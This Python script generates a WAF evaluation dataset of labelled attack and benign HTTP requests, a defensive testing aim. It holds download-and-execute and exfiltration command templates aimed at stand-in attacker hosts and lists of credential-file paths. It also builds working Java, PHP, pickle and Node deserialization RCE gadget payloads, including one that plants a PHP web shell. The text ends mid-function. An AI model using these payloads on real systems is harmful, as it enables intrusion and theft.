#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v25" (waf_unseen_sixteenth.jsonl).

Provenance: written blind by a helper session that read none of the WAF's
rules, checks, source code, tests, docs, benchmarks or corpora (only the
output-format docstring of make_waf_unseen_fourteenth.py was consulted, to
copy the row format).  Attack payloads were composed from general knowledge of
the techniques (no payload lists were fetched or copied); benign traffic was
composed from general knowledge of ordinary web/API usage.  Source tag "v25";
all randomness comes from random.Random(161616), so two runs give
byte-identical output.  Standard library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_sixteenth.py

Output: waf_unseen_sixteenth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v25-a-<category>-NNNN" (attack) / "v25-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 20 of them hard;
             800 in all);
             benign: benign_gaming, benign_realestate, benign_recipes,
             benign_hr, benign_iot, benign_code_review, benign_richtext,
             benign_search, benign_graphql, benign_files, benign_urls,
             benign_base64, benign_api_json, benign_forms, benign_headers
             (the first five kinds 74 rows, the other ten 73 rows, 1100 in
             all; every third row of a kind, 25 per kind, is hard); 1900
             rows in total.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF; never Content-Length
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document; a query_key may have no "=", as sent to raw-query and
             php-cgi style handlers); a form row may carry the payload as a
             value or as a field name (e.g. "password[$ne]", Spring
             "class.module..."); a json row may carry it 10+ levels deep or
             after 300+ characters of ordinary text in the same value; a
             multipart row carries it as a text field, a field name, a file's
             content or a file's filename; an xml row is either a value inside
             an element or attribute or (xxe, XStream, XMLDecoder, XAML, XSLT,
             benign documents) the whole document.  A header row with
             placement header may put the payload in a standard header
             (User-Agent, Referer, Accept-Language, Content-Type, ...) or in a
             custom one (for Authorization it follows the scheme word).
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity/character-reference decoding; header
             values are not decoded).  Deliberate encoded evasions (double
             percent-encoding, %uXXXX, overlong UTF-8, literal %0d%0a in a
             header, ...) are kept literally, i.e. the raw request carries
             them percent-encoded once more.  Three query rows are
             percent-encoded as Latin-1 bytes (%AD soft hyphen for php-cgi
             CVE-2024-4577, %BF for a GBK wide-byte quote, PHP "~" inverted
             function-name bytes).  For JSON values that are objects or
             arrays (NoSQL operators, gadget objects, structured benign
             values) the payload is the compact JSON text; one nosqli row
             carries duplicate "roles" keys on purpose (CouchDB
             CVE-2017-12635), its payload is the first value as it appears in
             the raw body.  For a GraphQL document the payload is the whole
             "query" string.
  hard       true for evasive attacks (20 of 50 per category: raw
             encodings, JSON \\u escapes, XML character references, base64
             layers, odd IP spellings, language-level obfuscation) and for
             benign rows deliberately prone to false positives (a third)
  source     "v25"
"""

import base64
import json
import random
import re
import struct
import zlib
from pathlib import Path
from urllib.parse import quote, quote_plus

R = random.Random(161616)
SRC = "v25"
OUT = Path(__file__).parent / "waf_unseen_sixteenth.jsonl"
MARK = "@@PAYLOAD@@"


def ch(seq):
    return R.choice(seq)


def ri(a, b):
    return R.randint(a, b)


def tok(n=8, al="abcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(al) for _ in range(n))


def b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def cjson(o):
    return json.dumps(o, separators=(",", ":"), ensure_ascii=False)


# ---------------------------------------------------------------- fills
ATK_HOSTS = [
    "attacker.example",
    "evil-cdn.net",
    "x7k2p.oast.site",
    "cb.exfil-dns.net",
    "198.51.100.77",
    "203.0.113.9",
    "pwn.rebind.cc",
    "k3v9q1.collab-oob.net",
    "updates-cdn.top",
    "c2.darkrelay.io",
]
CMDS = [
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "curl -s http://§H/s.sh|sh",
    "wget -qO- http://§H/x|bash",
    "nslookup §R.§H",
    "sleep 7",
    "touch /tmp/.§R",
    "curl http://§H/$(hostname)",
    "ping -c 3 §H",
    "ls -la /var/www",
]
XCMDS = ["id", "whoami", "hostname", "ifconfig", "env", "pwd"]
WCMDS = [
    "whoami",
    "type C:\\Windows\\win.ini",
    "net user",
    "ipconfig /all",
    "powershell -c iwr http://§H/a.ps1|iex",
    "certutil -urlcache -f http://§H/p.exe %TEMP%\\p.exe",
]
FILES = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/var/www/html/.env",
    "/root/.ssh/id_rsa",
    "/etc/hosts",
    "/app/config/database.yml",
    "/home/app/.aws/credentials",
    "/proc/self/cmdline",
    "/etc/issue",
]
FILL = {
    "§H": lambda: ch(ATK_HOSTS),
    "§C": lambda: ch(CMDS),
    "§X": lambda: ch(XCMDS),
    "§W": lambda: ch(WCMDS),
    "§F": lambda: ch(FILES),
    "§R": lambda: tok(6),
    "§N": lambda: str(ri(1000, 99999)),
    "§P": lambda: str(ch([4444, 9001, 1337, 8443, 53, 443])),
    "§D": lambda: "../" * ri(3, 8),
    "§B": lambda: "..\\" * ri(3, 7),
    "§U": lambda: ch(
        ["admin", "jdoe", "administrator", "svc_backup", "root", "m.smith", "helpdesk", "j.nguyen", "ops"]
    ),
    "§A": lambda: ch(
        ["userPassword", "mail", "telephoneNumber", "description", "homeDirectory", "employeeNumber", "sn", "givenName"]
    ),
    "§E": lambda: (
        ch(["victim", "ceo", "billing", "all-staff", "hr"])
        + "@"
        + ch(["example.org", "corp-mail.example", "example.net"])
    ),
}


def fill(s):
    vals = {}

    def rep(m):
        k = m.group(0)
        if k not in vals:
            vals[k] = FILL[k]()
        return vals[k]

    for _ in range(5):
        if "§" not in s:
            break
        s = re.sub("§[A-Z]", rep, s)
    return s


# ---------------------------------------------------------------- encoders
def penc(s, mode="std", ctx="q", latin=False):
    enc = "latin-1" if latin else "utf-8"
    if mode == "full":
        up = R.random() < 0.5
        return "".join(("%%%02X" if (up or R.random() < 0.5) else "%%%02x") % b for b in s.encode(enc))
    if mode == "min":
        safe = {"q": "!$'()*,;:@/?[]{}|<>\"\\^`", "p": "!$'()*,;:@=&[]/", "c": "!#$&'()*+-./:<=>?@[]^_`{|}~"}[ctx]
        return quote(s, safe=safe, encoding=enc)
    if ctx == "q":
        return quote_plus(s, safe=":/,@", encoding=enc)
    if ctx == "p":
        return quote(s, safe="/:@,;=!$'()*", encoding=enc)
    return quote(s, safe="/:=@", encoding=enc)


def kv(k, v, km="std", vm="std", latin=False):
    ks = penc(k, km, "q", latin)
    return ks if v is None else ks + "=" + penc(v, vm, "q", latin)


def jlit(s, mode="std"):
    if mode == "u":
        out = []
        for c in s:
            o = ord(c)
            if o < 128 and c.isalnum() and R.random() < 0.55:
                out.append(c)
            elif o < 0x10000:
                out.append(("\\u%04x" if R.random() < 0.6 else "\\u%04X") % o)
            else:
                out.append(json.dumps(c)[1:-1])
        return '"' + "".join(out) + '"'
    return json.dumps(s, ensure_ascii=R.random() < 0.4)


def jdump_u(o):
    if isinstance(o, dict):
        return "{" + ",".join(jlit(k, "u") + ":" + jdump_u(v) for k, v in o.items()) + "}"
    if isinstance(o, list):
        return "[" + ",".join(jdump_u(v) for v in o) + "]"
    if isinstance(o, str):
        return jlit(o, "u")
    return json.dumps(o)


def xesc(s, mode="std", attr=False):
    out = []
    for c in s:
        o = ord(c)
        if mode == "ref" and (not c.isalnum() or R.random() < 0.35):
            out.append(ch(["&#%d;" % o, "&#x%x;" % o, "&#x%X;" % o]))
        elif c == "&":
            out.append("&amp;")
        elif c == "<":
            out.append("&lt;")
        elif c == ">":
            out.append("&gt;")
        elif c == '"' and attr:
            out.append("&quot;")
        elif c == "\r" or (attr and c in "\n\t"):
            out.append("&#%d;" % o)
        else:
            out.append(c)
    return "".join(out)


def boundary():
    return ch(
        [
            "----WebKitFormBoundary" + tok(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
            "-" * 27 + str(ri(10**27, 10**28)),
            "----formdata-undici-0" + str(ri(10**10, 10**11)),
            "dart-http-boundary-" + tok(40, "abcdefghijklmnopqrstuvwxyz0123456789-_+")[:40],
        ]
    )


def mpart(parts, bnd):
    out = []
    for p in parts:
        disp = 'form-data; name="%s"' % p["name"]
        if "filename" in p:
            disp += '; filename="%s"' % p["filename"]
        out.append(
            "--%s\r\nContent-Disposition: %s\r\n" % (bnd, disp)
            + ("Content-Type: %s\r\n" % p["ct"] if p.get("ct") else "")
            + "\r\n"
            + p["content"]
            + "\r\n"
        )
    return "".join(out) + "--%s--\r\n" % bnd


# ---------------------------------------------------------------- contexts
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "axios/1.6.8",
    "Go-http-client/2.0",
    "PostmanRuntime/7.37.3",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "NorthbridgeBank/5.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "PixelArena/2.8.0 (Windows; Unity 2022.3.21f1)",
    "SensorGrid-Agent/1.9.4 (linux; armv7l)",
]
ACCEPTS = [
    "*/*",
    "application/json",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "application/json, text/plain, */*",
    "application/json;q=0.9, */*;q=0.1",
]

APPS = [
    (
        "shop.acme-retail.com",
        [
            "/api/v2/products",
            "/api/v2/cart/items",
            "/checkout/confirm",
            "/api/v2/orders",
            "/account/profile",
            "/api/v2/reviews",
            "/search",
            "/api/v2/coupons/apply",
            "/api/v2/wishlist",
            "/store/locator",
        ],
    ),
    (
        "api.northbridge-bank.com",
        [
            "/v1/accounts/statements",
            "/v1/transfers",
            "/v1/payees",
            "/online/login",
            "/v1/cards/limits",
            "/v1/documents/export",
            "/v1/loans/quote",
            "/support/messages",
        ],
    ),
    (
        "app.taskforge.io",
        [
            "/api/projects",
            "/api/workspaces/settings",
            "/api/integrations/webhooks",
            "/api/reports/render",
            "/api/users/invite",
            "/api/files/preview",
            "/api/tasks/search",
            "/api/templates",
        ],
    ),
    (
        "cloud.sensorgrid.net",
        [
            "/api/devices",
            "/api/telemetry/ingest",
            "/api/firmware/check",
            "/api/gateways/config",
            "/api/alerts/rules",
            "/api/devices/provision",
            "/mqtt/bridge/publish",
        ],
    ),
    (
        "play.pixelarena.gg",
        [
            "/api/players/profile",
            "/api/matches/history",
            "/api/clans/join",
            "/api/leaderboard",
            "/api/chat/send",
            "/api/mods/upload",
            "/api/store/redeem",
        ],
    ),
    (
        "hr.talentloop.com",
        [
            "/api/candidates",
            "/api/jobs/search",
            "/api/employees/directory",
            "/api/reviews/submit",
            "/api/payroll/export",
            "/careers/apply",
            "/api/onboarding/docs",
        ],
    ),
]

PN = {
    "java_injection": ["expr", "filter", "name", "redirect", "message", "lang", "template", "input", "query", "action"],
    "php_injection": ["code", "cmd", "page", "callback", "data", "func", "arg", "view", "s", "q"],
    "code_injection": ["expr", "formula", "calc", "code", "script", "transform", "filter", "sort", "template", "rule"],
    "rfi": ["page", "include", "file", "template", "module", "lang", "theme", "view", "layout", "plugin"],
    "ssrf": [
        "url",
        "image_url",
        "webhook",
        "callback_url",
        "feed",
        "target",
        "avatar_url",
        "import_url",
        "proxy",
        "endpoint",
        "dest",
        "uri",
        "src",
    ],
    "rce": ["host", "ip", "domain", "filename", "cmd", "target", "device", "ping", "format", "backup_name"],
    "sqli": ["id", "sort", "order", "q", "category", "user", "filter", "page", "account_id", "status"],
    "nosqli": ["username", "password", "email", "token", "filter", "user", "where", "query", "id", "code"],
    "ldapi": ["username", "user", "uid", "cn", "search", "group", "mail", "manager", "department", "login"],
    "ssti": ["name", "template", "message", "subject", "greeting", "title", "preview", "lang", "bio", "note"],
    "crlf": ["redirect", "next", "return_to", "lang", "callback", "filename", "continue", "url", "ref", "locale"],
    "mail_injection": [
        "email",
        "from",
        "reply_to",
        "subject",
        "name",
        "to",
        "cc",
        "contact_email",
        "sender",
        "message",
    ],
    "xss": ["q", "name", "comment", "message", "title", "search", "redirect", "bio", "callback", "error"],
    "path_traversal": [
        "file",
        "path",
        "doc",
        "template",
        "download",
        "image",
        "attachment",
        "log",
        "report",
        "filename",
    ],
    "xxe": ["xml", "data", "payload", "import", "feed", "soap", "doc", "config", "svg", "metadata"],
    "log4shell": ["username", "q", "search", "device_id", "ref", "session", "lang", "comment", "name", "trace"],
}

HDR = {
    "java_injection": ["X-Expression", "X-Rule", "X-Search-Filter"],
    "php_injection": ["User-Agent", "Referer", "X-Forwarded-For"],
    "code_injection": ["X-Formula", "X-Debug-Eval", "X-Transform"],
    "rfi": ["X-Template-Url", "X-Include-Path"],
    "ssrf": ["X-Callback-Url", "X-Webhook-Url", "X-Import-Source", "Referer"],
    "rce": ["User-Agent", "X-Device-Host", "X-Ping-Target", "Referer"],
    "sqli": ["X-Forwarded-For", "Referer", "User-Agent", "X-Client-Id", "X-Tenant-Id"],
    "nosqli": ["X-Api-Filter"],
    "ldapi": ["X-Remote-User", "X-Forwarded-User", "X-Auth-User"],
    "ssti": ["User-Agent", "Referer", "X-Display-Name"],
    "crlf": ["X-Request-Id", "X-Correlation-Id", "X-Forwarded-Host", "Referer"],
    "mail_injection": ["X-Reply-To", "From"],
    "xss": ["Referer", "User-Agent", "X-Forwarded-Host", "Accept-Language"],
    "path_traversal": ["X-Original-URL", "X-Rewrite-URL", "X-Template", "Accept-Language"],
    "xxe": ["X-Xml-Config"],
    "log4shell": [
        "User-Agent",
        "Referer",
        "X-Api-Version",
        "X-Forwarded-For",
        "X-Request-Id",
        "Authorization",
        "Accept-Language",
        "Origin",
        "CF-Connecting-IP",
        "True-Client-IP",
        "X-Client-IP",
        "Contact",
        "If-Modified-Since",
        "X-Wap-Profile",
    ],
}

PLACEMENT = {
    "q": "query",
    "qk": "query_key",
    "p": "path",
    "j": "json",
    "jk": "json_key",
    "f": "form",
    "fk": "form",
    "h": "header",
    "c": "cookie",
    "m": "multipart",
    "mn": "multipart",
    "mf": "multipart",
    "mfn": "multipart",
    "x": "xml",
    "xd": "xml",
}

NOISE_Q = [
    ("lang", "en"),
    ("page", "2"),
    ("v", "3"),
    ("utm_source", "newsletter"),
    ("ref", "nav"),
    ("currency", "USD"),
    ("region", "eu-west-1"),
    ("limit", "25"),
    ("sort", "recent"),
    ("format", "json"),
]
NOISE_J = [
    ("locale", "en-US"),
    ("clientVersion", "4.2.1"),
    ("currency", "EUR"),
    ("page", 1),
    ("dryRun", False),
    ("source", "web"),
    ("tz", "Europe/Berlin"),
    ("tags", ["q3", "priority"]),
    ("count", 3),
]
NEST_KEYS = [
    "data",
    "payload",
    "settings",
    "profile",
    "preferences",
    "notifications",
    "rules",
    "conditions",
    "filter",
    "meta",
    "attributes",
    "config",
    "options",
    "context",
    "params",
    "extra",
    "details",
]
LONG_TEXT = (
    "Thanks for the quick turnaround on the last order. I have been a customer for several years and "
    "usually everything arrives on time, but this time the parcel was left at the wrong door and the "
    "tracking page still says it is out for delivery. Could you please check with the courier, update "
    "the address on file to the one below and let me know whether a replacement can be shipped this week? "
    "Order reference and photos are attached."
)


def noise_q(n=None):
    items = R.sample(NOISE_Q, ri(0, 2) if n is None else n)
    return [kv(k, v) for k, v in items]


def noise_cookie():
    cs = [
        ("session", tok(26)),
        ("_ga", "GA1.2.%d.%d" % (ri(10**8, 10**9), ri(1.6e9, 1.75e9))),
        ("theme", ch(["dark", "light"])),
        ("csrftoken", tok(32)),
        ("locale", ch(["en_US", "de_DE", "fr_FR"])),
    ]
    return R.sample(cs, ri(1, 3))


def safe_hdr(s):
    return all(32 <= ord(c) < 127 or c == "\t" for c in s)


def safe_xml(s):
    return all(ord(c) >= 32 or c in "\t\n\r" for c in s) and "\ufffe" not in s


def safe_name(s):
    return '"' not in s and "\r" not in s and "\n" not in s and len(s) < 400


def feasible(code, p):
    if not isinstance(p, str):
        return code in ("j",)
    if code == "h":
        return safe_hdr(p)
    if code in ("x",):
        return safe_xml(p)
    if code in ("mn", "mfn"):
        return safe_name(p)
    if code == "xd":
        return p.lstrip().startswith("<")
    return True


def embed(code, payload, host, path, pn, enc="std", o=None):
    """Build a request spec carrying payload at the placement named by code."""
    o = o or {}
    ps = payload if isinstance(payload, str) else cjson(payload)
    latin = o.get("latin", False)
    method = o.get("meth")
    query, body, ctype, ua, acc = "", "", None, None, None
    hdrs = list(o.get("hdrs", []))
    extra_q = [kv(k, v) for k, v in o.get("ex", [])]
    if "ptpl" in o and code == "p":
        path = o["ptpl"].replace("{P}", penc(ps, enc if enc in ("full", "min") else "std", "p"))
    qparts = list(extra_q)
    if code in ("q", "qk"):
        base = o["q"] if "q" in o else noise_q()
        if code == "q":
            mine = kv(pn, ps, vm=enc, latin=latin)
        else:
            mine = penc(ps, enc, "q", latin)
            if not o.get("noeq", R.random() < 0.45):
                mine += "=" + penc(o.get("val", ch(["1", "true", "", "x"])))
        base = list(base)
        base.insert(ri(0, len(base)), mine)
        qparts = base + extra_q
        method = method or "GET"
    elif code == "p":
        if "ptpl" not in o:
            sep = "" if path.endswith("/") else "/"
            path = (
                path
                + sep
                + penc(ps, enc if enc in ("full", "min") else "std", "p")
                + o.get("psuf", ch(["", "", "/preview", ".json"]))
            )
        method = method or "GET"
        if not extra_q:
            qparts = noise_q(ri(0, 1))
    elif code in ("j", "jk"):
        method = method or ch(["POST", "POST", "PUT", "PATCH"])
        if "obj" in o:
            obj = o["obj"]
        else:
            obj = {}
            for k, v in R.sample(NOISE_J, ri(1, 3)):
                obj[k] = v
            if code == "j":
                obj[pn] = MARK
            else:
                obj[pn] = {MARK: o.get("val", ch(["asc", 1, True, "x", "desc"]))}
            if o.get("deep"):
                for k in R.sample(NEST_KEYS, ri(10, 12)):
                    obj = {k: obj}
            elif R.random() < 0.3:
                obj = {ch(["data", "input", "request", "variables"]): obj}
        if code == "j" and not isinstance(payload, str):
            lit = jdump_u(payload) if enc == "u" else cjson(payload)
        else:
            lit = jlit(ps, "u" if enc == "u" else "std")
        sep = ch([(",", ":"), (", ", ": ")])
        body = json.dumps(obj, ensure_ascii=False, separators=sep).replace('"%s"' % MARK, lit, 1)
        ctype = o.get("ctype") or ch(
            ["application/json", "application/json", "application/json; charset=utf-8", "application/vnd.api+json"]
        )
    elif code in ("f", "fk"):
        method = method or "POST"
        if "form" in o:
            fparts = []
            for k, v in o["form"]:
                if v == MARK:
                    fparts.append(kv(k, ps, vm=enc))
                elif k == MARK:
                    fparts.append(kv(ps, v, km=enc))
                else:
                    fparts.append(kv(k, v))
        else:
            fparts = [kv(k, v) for k, v in R.sample(NOISE_Q, ri(0, 2))]
            if code == "f":
                mine = kv(pn, ps, vm=enc, latin=latin)
            else:
                mine = kv(ps, o.get("val", "1"), km=enc)
            fparts.insert(ri(0, len(fparts)), mine)
            fparts += [kv(k, v) for k, v in o.get("ex_form", [])]
        body = "&".join(fparts)
        ctype = ch(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    elif code == "h":
        method = method or "GET"
        name = o.get("hdr") or pn
        val = o.get("hpre", "") + ps
        if name == "User-Agent":
            ua = val
        elif name == "Accept":
            acc = val
        else:
            hdrs.append((name, val))
        if not extra_q:
            qparts = noise_q()
    elif code == "c":
        method = method or "GET"
        cs = o.get("cookies") or noise_cookie()
        parts = ["%s=%s" % (k, penc(v, "std", "c")) for k, v in cs]
        parts.insert(ri(0, len(parts)), "%s=%s" % (pn, penc(ps, enc if enc in ("full", "min") else "std", "c")))
        hdrs.append(("Cookie", "; ".join(parts)))
        if not extra_q:
            qparts = noise_q()
    elif code in ("m", "mn", "mf", "mfn"):
        method = method or "POST"
        if "parts" in o:
            parts = []
            for p in o["parts"]:
                p = dict(p)
                for key in ("name", "filename", "content"):
                    if p.get(key) == MARK:
                        p[key] = ps
                parts.append(p)
        else:
            parts = [
                {"name": k, "content": v if isinstance(v, str) else json.dumps(v)}
                for k, v in R.sample(NOISE_J[:7], ri(1, 2))
            ]
            if code == "m":
                mine = {"name": pn, "content": ps}
            elif code == "mn":
                mine = {"name": ps, "content": o.get("val", "1")}
            elif code == "mf":
                mine = {
                    "name": o.get("field", ch(["file", "upload", "attachment", "document"])),
                    "filename": fill(o.get("fn", "upload_%s.txt" % tok(4))),
                    "ct": o.get("fct", "text/plain"),
                    "content": ps,
                }
            else:
                mine = {
                    "name": o.get("field", ch(["file", "avatar", "attachment"])),
                    "filename": ps,
                    "ct": o.get("fct", ch(["image/png", "application/octet-stream", "text/plain"])),
                    "content": o.get("val", "GIF89a placeholder"),
                }
            parts.insert(ri(0, len(parts)), mine)
        bnd = boundary()
        body = mpart(parts, bnd)
        ctype = "multipart/form-data; boundary=" + bnd
    elif code == "x":
        method = method or "POST"
        if "xmlb" in o:
            body = o["xmlb"].replace(MARK, xesc(ps, "ref" if enc == "ref" else "std", attr=o.get("attr", False)))
        else:
            style = ri(0, 3)
            v = xesc(ps, "ref" if enc == "ref" else "std", attr=(style == 3))
            if style == 0:
                body = (
                    '<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
                    '<soapenv:Header/><soapenv:Body><ns:Lookup xmlns:ns="urn:%s"><ns:%s>%s</ns:%s><ns:max>%d</ns:max>'
                    "</ns:Lookup></soapenv:Body></soapenv:Envelope>" % (host.split(".")[1], pn, v, pn, ri(5, 50))
                )
            elif style == 1:
                body = '<?xml version="1.0"?>\n<request>\n  <%s>%s</%s>\n  <locale>en_US</locale>\n</request>\n' % (
                    pn,
                    v,
                    pn,
                )
            elif style == 2:
                body = '<update><id>%d</id><fields><field name="%s">%s</field></fields></update>' % (
                    ri(10, 9999),
                    pn,
                    v,
                )
            else:
                body = '<?xml version="1.0" encoding="UTF-8"?><item id="%d" %s="%s" status="active"/>' % (
                    ri(10, 9999),
                    pn,
                    v,
                )
        ctype = o.get("ctype") or ch(["application/xml", "text/xml; charset=utf-8", "application/soap+xml"])
    elif code == "xd":
        method = method or "POST"
        body = ps
        ctype = o.get("ctype") or ch(["application/xml", "text/xml", "application/xml; charset=UTF-8"])
    if "body" in o and not body:
        body, ctype = o["body"], o.get("bct", "application/x-www-form-urlencoded")
        method = method if method != "GET" else "POST"
    return dict(
        method=method,
        host=host,
        path=path,
        query="&".join(qparts),
        body=body,
        ctype=ctype,
        hdrs=hdrs,
        ua=ua,
        acc=acc,
        placement=PLACEMENT[code],
        payload=ps,
    )


def mkrow(label, cat, idx, sp, hard):
    h = {"Host": sp["host"], "User-Agent": sp.get("ua") or ch(UAS), "Accept": sp.get("acc") or ch(ACCEPTS)}
    if sp["body"]:
        h["Content-Type"] = sp["ctype"]
    for k, v in sp["hdrs"]:
        h[k] = v
    for k, v in h.items():
        assert safe_hdr(v) and "\t" not in k, (cat, k, v)
    return {
        "id": "%s-%s-%s-%04d" % (SRC, "a" if label == "attack" else "b", cat, idx),
        "label": label,
        "category": cat,
        "method": sp["method"],
        "path": sp["path"],
        "query": sp["query"],
        "headers": h,
        "body": sp["body"],
        "placement": sp["placement"],
        "payload": sp["payload"],
        "hard": hard,
        "source": SRC,
    }


# ---------------------------------------------------------------- payload builders
def u16(s):
    return struct.pack(">H", len(s)) + s.encode()


def java_ser_b64(gz=False):
    """A CommonsBeanutils-style serialized object graph (PriorityQueue -> BeanComparator -> TemplatesImpl)."""
    cmd = fill("§C")
    b = (
        b"\xac\xed\x00\x05sr"
        + u16("java.util.PriorityQueue")
        + bytes.fromhex("94da30b4fb3f82b1")
        + b"\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort"
        + u16("Ljava/util/Comparator;")
        + b"xp\x00\x00\x00\x02"
        + b"sr"
        + u16("org.apache.commons.beanutils.BeanComparator")
        + bytes.fromhex("e3a188ea7322a448")
        + b"\x02\x00\x02L\x00\ncomparatorq\x00~\x00\x01L\x00\x08propertyt"
        + u16("Ljava/lang/String;")
        + b"xpsr"
        + u16("java.util.Collections$ReverseComparator")
        + bytes.fromhex("0400f2f3b4ce42c0")
        + b"\x02\x00\x00xpt"
        + u16("outputProperties")
        + b"w\x04\x00\x00\x00\x03"
        + b"sr"
        + u16("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")
        + bytes.fromhex("0957c16e1bb1cd9c")
        + b"\x03\x00\x06I\x00\r_indentNumberI\x00\x0e_transletIndex[\x00\n_bytecodest\x00\x03[[B"
        + b"ur\x00\x03[[BK\xfd\x19\x15gg\xdb7\x02\x00\x00xp\x00\x00\x00\x01ur\x00\x02[B\xac\xf3\x17\xf8\x06\x08T\xe0\x02\x00\x00xp"
        + b"\xca\xfe\xba\xbe\x00\x00\x002"
        + u16("java/lang/Runtime")
        + u16("getRuntime")
        + u16("exec")
        + u16(cmd)
        + u16("com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet")
        + b"xq\x00~\x00\rx"
    )
    if gz:
        b = zlib.compress(b)
        b = (
            b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
            + b[2:-4]
            + struct.pack("<II", zlib.crc32(b) & 0xFFFFFFFF, len(b))
        )
    return b64(b)


class PO:
    def __init__(self, cls, props):
        self.cls, self.props = cls, props


def php_ser(v, plus=False):
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if v is None:
        return "N;"
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode()), v)
    if isinstance(v, list):
        return "a:%d:{" % len(v) + "".join(php_ser(i) + php_ser(x, plus) for i, x in enumerate(v)) + "}"
    if isinstance(v, dict):
        return "a:%d:{" % len(v) + "".join(php_ser(k) + php_ser(x, plus) for k, x in v.items()) + "}"
    out = 'O:%s%d:"%s":%d:{' % ("+" if plus else "", len(v.cls), v.cls, len(v.props))
    for vis, name, val in v.props:
        key = name if vis == "pub" else ("\0*\0" + name if vis == "prot" else "\0%s\0%s" % (v.cls, name))
        out += php_ser(key) + php_ser(val, plus)
    return out + "}"


def php_gadget(plus=False):
    k = ri(0, 2)
    cmd = fill("§C")
    if k == 0:
        g = PO(
            "Illuminate\\Broadcasting\\PendingBroadcast",
            [
                ("prot", "events", PO("Faker\\Generator", [("prot", "formatters", {"dispatch": "system"})])),
                ("prot", "event", cmd),
            ],
        )
    elif k == 1:
        buf = PO(
            "Monolog\\Handler\\BufferHandler",
            [
                ("prot", "handler", None),
                ("prot", "bufferSize", -1),
                ("prot", "buffer", [[cmd, "x"]]),
                ("prot", "level", None),
                ("prot", "initialized", True),
                ("prot", "bufferLimit", -1),
                ("prot", "processors", ["current", "system"]),
            ],
        )
        g = PO("Monolog\\Handler\\SyslogUdpHandler", [("prot", "socket", buf)])
    else:
        sc = PO(
            "GuzzleHttp\\Cookie\\SetCookie",
            [("priv", "data", {"Expires": 1, "Discard": False, "Value": "<?php system($_GET['c']); ?>"})],
        )
        g = PO(
            "GuzzleHttp\\Cookie\\FileCookieJar",
            [
                ("priv", "cookies", [sc]),
                ("priv", "strictMode", None),
                ("priv", "filename", "/var/www/html/pub/%s.php" % tok(5)),
                ("priv", "storeSessionCookies", True),
            ],
        )
    return php_ser(g, plus)


def pickle_b64():
    cmd = fill("§C").replace("'", "")
    return b64(
        ch(
            [
                b"cos\nsystem\n(S'%s'\ntR." % cmd.encode(),
                b"cposix\nsystem\n(S'%s'\ntR." % cmd.encode(),
                b"c__builtin__\neval\n(S\"__import__('os').popen('%s').read()\"\ntR." % cmd.encode(),
            ]
        )
    )


def node_ser_b64():
    cmd = fill("§C")
    return b64(
        '{"username":"guest","rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'%s\','
        'function(e,o,s){})}()"}' % cmd
    )


def vint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def bstr(s):
    e = s.encode()
    return vint(len(e)) + e


def dotnet_viewstate():
    cmd = fill("§W")
    xaml = (
        '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
        'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:S="clr-namespace:System;assembly=mscorlib" '
        'xmlns:D="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="" '
        'ObjectType="{x:Type D:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>'
